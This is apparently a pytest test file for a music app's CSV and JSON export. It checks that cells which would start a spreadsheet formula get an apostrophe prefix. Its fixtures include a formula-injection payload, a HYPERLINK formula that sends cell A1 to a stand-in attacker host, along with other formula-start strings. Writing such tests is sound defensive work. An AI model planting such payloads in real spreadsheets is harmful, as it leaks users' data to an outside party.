"""CSV formula injection (OWASP "CSV Injection"): text cells a spreadsheet would run as a
formula get a leading ``'`` in CSV; numbers stay numbers; JSON keeps the exact names."""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest

from musicrec_tui.core.engines.base import RankedList, Recommendation
from musicrec_tui.core.export import render
from musicrec_tui.core.export.flat import spreadsheet_text
from tests import helpers_export
from tests.helpers_export import fake_analysis, real_analysis

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PLUS = "+1"
AT = "@SUM(A1:A9)"
M = "-M-"  # a real French artist
TAB = "\tTabbed"
CR = "\rReturn"
SPACED = "  =1+1"  # an import that trims spaces would see a formula
DANGEROUS = [HYPERLINK, PLUS, AT, M, TAB, CR, SPACED]
HARMLESS = ["Aurora Lane", "'Quoted already", "Sigur Rós", "1-800", "A=B", "Go-Go's", " "]


@pytest.mark.parametrize("name", DANGEROUS)
def test_formula_starts_are_quoted(name):
    assert spreadsheet_text(name) == "'" + name


@pytest.mark.parametrize("name", HARMLESS)
def test_other_text_is_left_alone(name):
    assert spreadsheet_text(name) == name


def _with_mix(names: list[str], *, scores: list[float] | None = None):
    analysis = copy.copy(fake_analysis())
    scores = scores or [1 - k / 10 for k in range(len(names))]
    mixed = [
        Recommendation(name, score, {"recency": score / 2, "content": -0.25},
                       f"{name} fans also play Aurora Lane", in_library=False, list="discover")
        for name, score in zip(names, scores, strict=True)
    ]
    analysis.lists = {"mix": RankedList("mix", mixed),
                      **{n: RankedList(n, []) for n in ("play-next", "rediscover", "discover")}}
    return analysis


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_quotes_formula_artists_and_why_but_not_numbers():
    names = [*DANGEROUS, *HARMLESS]
    scores = [-0.5, *[0.9 - k / 20 for k in range(len(names) - 1)]]
    analysis = _with_mix(names, scores=scores)
    rows = _rows(render(analysis, "csv"))

    assert [r["artist"] for r in rows] == [spreadsheet_text(n) for n in names]
    assert rows[3]["artist"] == "'-M-" and rows[0]["artist"] == "'" + HYPERLINK
    assert [r["artist"] for r in rows[len(DANGEROUS):]] == HARMLESS
    # The why text starts with the artist's name, so it is guarded the same way.
    assert rows[1]["why"] == "'+1 fans also play Aurora Lane"
    # Numbers are not text: negative values keep their sign and parse as floats.
    assert rows[0]["score"] == "-0.5" and float(rows[0]["score"]) == -0.5
    assert all(r["content"] == "-0.25" for r in rows)
    assert all(not r[k].startswith("'") for r in rows for k in ("rank", "score", "recency"))
    assert all(r["list"] == "mix:discover" for r in rows)


def test_no_csv_cell_starts_like_a_formula():
    analysis = _with_mix(DANGEROUS)
    cells = [cell for row in csv.reader(io.StringIO(render(analysis, "csv"), newline=""))
             for cell in row]
    numeric = set()
    for cell in cells:
        try:
            float(cell)
            numeric.add(cell)
        except ValueError:
            pass
    text_cells = [c for c in cells if c not in numeric]
    assert not [c for c in text_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("fmt", ["comprehensive", "summary"])
def test_json_keeps_the_exact_names(fmt):
    analysis = _with_mix(DANGEROUS)
    data = json.loads(render(analysis, fmt))
    entries = (data["lists"]["mix"]["items"] if fmt == "comprehensive"
               else data["top_recommendations"])
    assert [e["artist"] for e in entries] == DANGEROUS
    assert entries[3]["artist"] == "-M-"


def test_the_real_pipeline_guards_played_artists(monkeypatch):
    """Through import-shaped plays and the real engines, not a hand-made ensemble."""
    monkeypatch.setattr(helpers_export, "ARTISTS", [M, HYPERLINK, PLUS, AT, "Aurora Lane"])
    analysis = real_analysis()
    played = {str(r.artist) for r in analysis.mix} & {M, HYPERLINK, PLUS, AT}
    assert played, "the engines should recommend some of the played artists"
    csv_artists = {r["artist"] for r in _rows(render(analysis, "csv"))}
    assert {"'" + a for a in played} <= csv_artists
    assert not played & csv_artists
    json_artists = {e["artist"] for e in json.loads(render(analysis, "summary"))
                    ["top_recommendations"]}
    assert played <= json_artists
